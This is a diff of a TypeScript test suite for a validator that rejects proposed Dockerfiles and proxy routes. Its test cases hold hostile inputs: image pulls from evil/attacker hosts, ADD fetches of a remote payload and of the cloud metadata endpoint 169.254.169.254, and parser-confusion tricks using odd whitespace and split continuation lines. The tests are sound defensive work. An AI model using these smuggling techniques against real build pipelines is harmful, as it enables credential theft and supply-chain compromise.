@@ -77,21 +77,23 @@ describe('proposals are checked before anyone sees them', () => {
   it('Dockerfile: nothing comes from outside the allowed bases (no other image, no download)', () => {
     expect(
       refused('dockerfile', 'FROM debian:12\nCOPY --from=evil/tools:1 /bin/x /bin/x\n'),
-    ).toMatch(/takes files from evil\/tools:1, which is not an earlier stage/);
+    ).toMatch(/takes files from evil\/tools:1, which is not an earlier, finished stage/);
     expect(
       refused(
         'dockerfile',
         'FROM debian:12\nRUN --mount=type=bind,from=evil/img,target=/m cp /m/x /x\n',
       ),
-    ).toMatch(/not an earlier stage/);
+    ).toMatch(/not an earlier, finished stage/);
+    // A stage may not take from itself (Docker would pull an image of that name).
+    expect(refused('dockerfile', 'FROM debian:12 AS alpine\nCOPY --from=alpine /x /x\n')).toMatch(
+      /finished stage/,
+    );
     expect(refused('dockerfile', 'FROM debian:12\nADD https://evil.test/payload /p\n')).toMatch(
-      /ADD from the network/,
+      /ADD is not allowed/,
     );
-    expect(refused('dockerfile', 'FROM debian:12\nADD git@github.com:evil/x.git /x\n')).toMatch(
-      /ADD from the network/,
-    );
+    expect(refused('dockerfile', 'FROM debian:12\nADD local /p\n')).toMatch(/ADD is not allowed/);
     expect(refused('dockerfile', 'FROM debian:12\nONBUILD RUN x\n')).toMatch(/ONBUILD/);
-    // Earlier stages, by name or by number, are fine.
+    // Earlier, finished stages, by name or by number, are fine.
     expect(
       refused(
         'dockerfile',
@@ -100,29 +102,38 @@ describe('proposals are checked before anyone sees them', () => {
     ).toBeUndefined();
   });
 
-  it('Dockerfile: nothing Docker could read differently from us (review findings)', () => {
-    // A backslash then a no-break space: Docker ends the line there, JavaScript's trim would not.
-    expect(
-      refused('dockerfile', 'FROM debian:12\nRUN echo \\\u00a0\nFROM attacker.example/x\n'),
-    ).toMatch(/U\+00a0 at line 2 is not allowed/);
-    expect(refused('dockerfile', '# escape=`\nFROM debian:12\n')).toMatch(/parser directives/);
-    expect(refused('dockerfile', '# syntax=evil/frontend\nFROM debian:12\n')).toMatch(
-      /parser directives/,
-    );
-    expect(refused('dockerfile', 'FROM debian:12\nRUN <<EOF\necho x\nEOF\n')).toMatch(
-      /heredocs are not allowed/,
-    );
-    expect(
-      refused(
-        'dockerfile',
-        'FROM debian:12\nADD ["http://169.254.169.254/latest/meta-data/","/c"]\n',
-      ),
-    ).toMatch(/ADD from the network/);
-    expect(refused('dockerfile', 'FROM debian:12\nVOLUME /d\n')).toMatch(/VOLUME is not allowed/);
-    expect(refused('dockerfile', 'FROM debian:12\nHEALTHCHECK CMD true\n')).toMatch(
-      /HEALTHCHECK is not allowed/,
-    );
-    // A continuation as Docker reads it: a backslash, then only spaces.
+  it('Dockerfile: nothing Docker could read differently from us (two reviews)', () => {
+    const attacks: Array<[string, RegExp]> = [
+      // A backslash then a no-break space: Docker ends the line there, JavaScript's trim would not.
+      [
+        'FROM debian:12\nRUN echo \\\u00a0\nFROM attacker.example/x\n',
+        /U\+00a0 at line 2 is not allowed/,
+      ],
+      ['# escape=`\nFROM debian:12\n', /parser directives/],
+      ['# syntax=evil/frontend\nFROM debian:12\n', /parser directives/],
+      // Go's \s takes a carriage return: a directive to Docker, a comment to a naive reader.
+      ['#\rescape=`\nFROM debian:12\nLABEL a=\\\nFROM evil/img\n', /U\+000d at line 1/],
+      ['FROM debian:12\nRUN <<EOF\necho x\nEOF\n', /heredocs are not allowed/],
+      // Docker glues a continued line on as it is: these are http://, --from= and another image.
+      [
+        'FROM debian:12\nADD http:/\\\n/169.254.169.254/latest/meta-data/ /m\n',
+        /only RUN may continue/,
+      ],
+      ['FROM debian:12 AS s\nCOPY --fr\\\nom=evil.example/x /a /a\n', /only RUN may continue/],
+      ['FROM debian\\\n.evil.example/img\n', /only RUN may continue/],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
+      ['FROM debian:12\nARG U=http://169.254.169.254/\nADD ${U} /m\n', /ADD is not allowed/],
+      ['FROM debian:12\nADD ["http:\\/\\/169.254.169.254/","/c"]\n', /ADD is not allowed/],
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Dockerfile variable, not a template
+      ['FROM debian:12\nARG S=evil/img\nCOPY --from=${S} /a /a\n', /COPY takes plain paths only/],
+      ['FROM debian:12\nCOPY ["a", "b"]\n', /COPY takes plain paths only/],
+      ['FROM debian:12\nVOLUME /d\n', /VOLUME is not allowed/],
+      ['FROM debian:12\nHEALTHCHECK CMD true\n', /HEALTHCHECK is not allowed/],
+      ['FROM --platform=linux/amd64 debian:12 junk\n', /must be one image reference/],
+    ];
+    for (const [file, why] of attacks)
+      expect(refused('dockerfile', file), JSON.stringify(file)).toMatch(why);
+    // A RUN continued as Docker reads it: a backslash, then only spaces; it stays one RUN.
     expect(parseDockerfile('FROM debian:12\nRUN a \\   \n  b\n').map((i) => i.args)).toEqual([
       'debian:12',
       'a b',
@@ -137,8 +148,13 @@ describe('proposals are checked before anyone sees them', () => {
     );
     expect(refused('routes', route({ x: 'env:BB_API_TOKEN' }))).toMatch(/bot-bottle's own secret/);
     expect(refused('routes', route({ x: 'env:SVC_KEY' }, 'http://api.example.com/'))).toMatch(
-      /only over https/,
+      /must be https:\/\//,
     );
+    // No other scheme either: the proxy would speak plain HTTP to it.
+    expect(refused('routes', route({ x: 'env:SVC_KEY' }, 'ftp://api.example.com/'))).toMatch(
+      /must be https:\/\//,
+    );
+    expect(refused('routes', route({}, 'ws://api.example.com/'))).toMatch(/must be https:\/\//);
     expect(
       refused('routes', route({ x: 'env:SVC_KEY' }, 'http://127.0.0.1:8080/')),
     ).toBeUndefined();
